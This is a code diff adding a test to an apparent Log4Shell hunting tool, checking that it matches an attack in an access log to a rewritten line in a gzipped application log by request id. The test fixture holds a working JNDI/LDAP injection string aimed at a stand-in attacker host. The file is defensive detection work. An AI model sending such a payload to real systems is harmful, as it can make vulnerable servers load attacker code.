@@ -2,6 +2,7 @@ import { createHash } from 'node:crypto'
 import { mkdirSync, mkdtempSync, rmSync, utimesSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
+import { gzipSync } from 'node:zlib'
 import { afterAll, beforeAll, expect, test } from 'vitest'
 import { reportSchema } from '../../src/contract/index.ts'
 import type { AttackFinding } from '../../src/core/index.ts'
@@ -169,3 +170,25 @@ test('a real probe, received by a real catch, is known as ours, and seen to have
     expect(evidence.at(-1)).toMatchObject({ kind: 'witness', format: 'fireline-catch' })
   }
 }, 60_000)
+
+test('a request whose attack Log4j wrote over is found by its id in another log, packed or not', async () => {
+  const id = '7f3c2a10-5b1e-4c8e-9a53-0d2f6b7c8d9e'
+  const folder = join(root, 'requests')
+  mkdirSync(folder)
+  const line = { time: '2021-12-10T12:00:00Z', remote_addr: '203.0.113.9', request_id: id, request: 'GET /login' }
+  const attack = { ...line, http_user_agent: '${jndi:ldap://x.evil.example/a:-Mozilla/5.0 (compatible)}' }
+  writeFileSync(join(folder, 'access.json'), `${JSON.stringify(attack)}\n`)
+  const app = `2021-12-10 12:00:01,000 INFO [http-1] c.e.Login - [${id}] login by Mozilla/5.0 (compatible)\n`
+  writeFileSync(join(folder, 'app.log.gz'), gzipSync(app))
+
+  const { stdout } = await fireline(['hunt', folder, '--format', 'json'])
+  const [finding, ...others] = (JSON.parse(stdout) as Report).findings
+
+  expect(others).toEqual([])
+  expect(finding).toMatchObject({ outcome: 'likely', lookup: { host: 'x.evil.example' } })
+  expect(finding?.evidence.at(-1)).toMatchObject({
+    kind: 'witness',
+    source: expect.stringMatching(/app\.log\.gz$/) as string,
+    line: 1,
+  })
+})
